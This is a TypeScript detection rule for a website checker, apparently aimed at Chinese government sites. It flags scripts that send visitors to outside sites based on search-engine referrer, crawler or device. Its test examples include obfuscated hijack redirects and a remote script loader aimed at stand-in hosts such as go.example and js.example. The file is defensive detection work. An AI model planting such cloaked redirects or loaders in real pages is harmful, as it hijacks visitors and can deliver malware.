import { addressOf, isGovernment, isStranger } from '../host.ts';
import { ownHost } from '../own.ts';
import { named, type Page } from '../page.ts';
import { type PageContext, type PageFault, pageRule } from '../rule.ts';
import { handlers, inlineScripts, stringsIn } from '../scripts.ts';

const ENGINES = /baidu|sogou|(?:so|360|haosou)\.com|\bso\b.{0,3}\.com|google|bing|yahoo|shenma|sm\.cn|toutiao/i;
const SPIDERS = /(?:baidu|sogou|360|yisou|byte|haosou)\s*(?:web\s*)?spider|googlebot|bingbot|\bspider\b|slurp/i;
const PHONES = /mobile|android|iphone|ipad|ipod|symbian|windows phone|ucweb|midp/i;
const READS_REFERRER = /\breferr?er\b/i;
const READS_AGENT = /userAgent/i;
/** Sends the visitor on, or writes what does. */
const SENDS =
  /location(?:\.href)?\s*=(?!=)|\[\s*['"](?:location|href)['"]\s*\]\s*=(?!=)|location\s*\.\s*(?:replace|assign)\s*\(|window\.open\s*\(|document\.write(?:ln)?\s*\(\s*['"]?.{0,20}<\s*(?:script|iframe|meta)/i;
/** Sends the visitor on by itself, wherever he comes from. */
const LEAVES =
  /location(?:\.href)?\s*=(?!=)|\[\s*['"](?:location|href)['"]\s*\]\s*=(?!=)|location\s*\.\s*(?:replace|assign)\s*\(/i;
const WRITES =
  /document\.write(?:ln)?\s*\(|innerHTML\s*=|document\.title\s*=|createElement\s*\(\s*['"](?:script|iframe)/i;

const WITHIN = /(?:url\s*=\s*|src\s*=\s*|location[^'"]{0,12}=\s*)\\?['"]?((?:https?:)?\/\/[\w.-]+[^\s'"<>\\]*)/gi;

function targets(source: string): URL[] {
  return stringsIn(source).flatMap((text) => {
    if (/^(?:https?:)?\/\//i.test(text)) return addressOf(text) ?? [];
    // tags and code that the script writes
    if (!/<\s*(?:meta|script|iframe)|location/i.test(text)) return [];
    return [...text.matchAll(WITHIN)].flatMap(([, address]) => addressOf(address) ?? []);
  });
}

/** The source, when it picks its visitors and sends them to strangers. */
function sendsAway(source: string, own: string | null): boolean {
  const sends = SENDS.test(source);
  const leaves = targets(source).filter((url) => !ENGINES.test(url.hostname));
  const strangers = leaves.filter((url) => isStranger(url, own) && !(own === null && isGovernment(url)));
  const unsaid =
    leaves.length === 0 &&
    !/(?:location(?:\.href)?\s*=\s*|location\.(?:replace|assign)\(\s*|open\(\s*)['"]/i.test(source);
  if (READS_REFERRER.test(source) && ENGINES.test(source))
    return (sends && (strangers.length > 0 || unsaid)) || (WRITES.test(source) && strangers.length > 0);
  if (READS_REFERRER.test(source) && LEAVES.test(source) && strangers.length > 0) return true;
  if (!READS_AGENT.test(source)) return false;
  if (SPIDERS.test(source)) return (sends || WRITES.test(source)) && (strangers.length > 0 || WRITES.test(source));
  return PHONES.test(source) && sends && strangers.length > 0;
}

const faults = (page: Page, context: PageContext): PageFault[] => {
  const own = ownHost(page, context);
  const scripts = [...inlineScripts(page), ...handlers(page)].filter(({ source }) => sendsAway(source, own));
  return [...scripts.map(({ element }) => ({ element })), ...refreshes(page, own)];
};

/** Pages that send everybody to a stranger by themselves. */
function refreshes(page: Page, own: string | null): PageFault[] {
  return named(page, 'meta').flatMap((element): PageFault[] => {
    const { 'http-equiv': name = '', content = '' } = element.attributes;
    if (name.trim().toLowerCase() !== 'refresh') return [];
    const url = addressOf(/url\s*=\s*['"]?([^'"]+)/i.exec(content)?.[1]);
    return url && isStranger(url, own) ? [{ element }] : [];
  });
}

const script = (source: string) =>
  `<html><head><title>教育局</title><script>${source}</script></head><body></body></html>`;

export const scriptRedirect = pageRule({
  id: 'script-redirect',
  severity: 'high',
  finds: {
    zh: '页面脚本按来源、搜索引擎或者访问设备把访问者引向外部网站，疑似被篡改。',
    en: 'A script sends visitors elsewhere, by where they come from or what they read with: probably tampered.',
  },
  ground: '《政府网站与政务新媒体检查指标》（国办秘函〔2019〕19号）单项否决：安全、泄密事故等严重问题',
  remedy: {
    zh: '立即删除该脚本，从搜索引擎结果进入再次核对，排查服务器是否被入侵。',
    en: 'Remove the script at once, try the page again by way of a search engine, and have the server examined.',
  },
  examples: {
    match: [
      script('if(/baidu|sogou|so\\.com/i.test(document.referrer)){window.location.href="http://www.win.example/"}'),
      script('var r=document.referrer;if(r.indexOf("baidu")>0)location.replace("//go.example/x")'),
      script('if(navigator.userAgent.match(/Android|iPhone/i)){top.location="https://m.play.example"}'),
      script(
        'if(/Baiduspider|Googlebot/i.test(navigator.userAgent)){document.title="娱乐";document.write("<h1>x</h1>")}',
      ),
      script(
        'if(document.referrer.indexOf("google")>-1){document.write("<script src=\'http://js.example/1.js\'><\\/script>")}',
      ),
      script(
        'var u="\\x68\\x74\\x74\\x70\\x3a\\x2f\\x2fgo.example";if(document.referrer.match(/baidu/))location.href=u',
      ),
      script(
        "eval(function(p,a,c,k,e,d){return p}('4(0.1.2(\"3\")>0)5.6=\"7://8.9\"',10,10,'document|referrer|indexOf|baidu|if|location|href|http|go|example'.split('|'),0,{}))",
      ),
      script(
        'var s=document.referrer,e=["baidu.com","sogou.com"];if(s.match(e[0]))window.location=atob("aHR0cDovL3g=")',
      ),
      script(
        'eval(atob("aWYoZG9jdW1lbnQucmVmZXJyZXIuaW5kZXhPZigiYmFpZHUiKT4wKWxvY2F0aW9uPSJodHRwOi8vZ28uZXhhbXBsZS8i"))',
      ),
      script('setTimeout("if(/baidu/.test(document.referrer))location.href=\'http://go.example/\'",9)'),
      script('var k=["refer","rer"].join("");if(document[k].indexOf("baidu")>0)top["location"]="http://go.example/"'),
      script('var b="http://go.example/";if(document.referrer!="")window["location"]=b'),
      script(
        `var c=[${[...'http://go.example'].map((one) => one.charCodeAt(0)).join(',')}],t="";for(var i=0;i<c.length;i++)t+=String.fromCharCode(c[i]);if(document.referrer)location.replace(t)`,
      ),
      script(`if(/Mobile/.test(navigator.userAgent)){location.href=\`https://m.play.example/\${location.host}\`}`),
      '<body onload="if(/baidu/.test(document.referrer)){location.href=\'http://go.example/\'}"><p>通知</p></body>',
      '<meta http-equiv="refresh" content="0;url=http://go.example/"><title>教育局</title>',
    ],
    pass: [
      '<meta http-equiv="refresh" content="600"><meta http-equiv="refresh" content="0; url=/index.html">',
      '<body onload="startClock()"><a href="/" onclick="location.href=\'/a\'">教育局</a></body>',
      script('setTimeout("location.reload()",60000);var t=atob("e30=")'),
      script('if(/Android|iPhone/i.test(navigator.userAgent)){location.href="/mobile/index.html"}'),
      {
        html: script('if(/Mobile/.test(navigator.userAgent))window.location.href="http://m.county.gov.cn/"'),
        url: 'http://www.county.gov.cn/',
      },
      {
        html: script('if(/Mobile/.test(navigator.userAgent))location="http://m.site.example/"'),
        url: 'http://www.site.example/',
      },
      script(
        'var hm=document.createElement("script");hm.src="https://hm.baidu.com/hm.js?0";document.head.appendChild(hm)',
      ),
      script('var back=document.referrer;if(back){location.href=back}else{location.href="/"}'),
      script('if(navigator.userAgent.indexOf("MSIE 6")>0){alert("请升级浏览器")}'),
      script('function search(q){window.open("/search?q="+q)} // 支持百度、baidu 等搜索引擎收录'),
      script('if(/baidu/.test(document.referrer)){document.getElementById("from").value="baidu"}'),
      '<script type="application/ld+json">{"url":"https://a.example","referrer":"baidu","location":"x"}</script>',
    ],
  },
  faults,
});
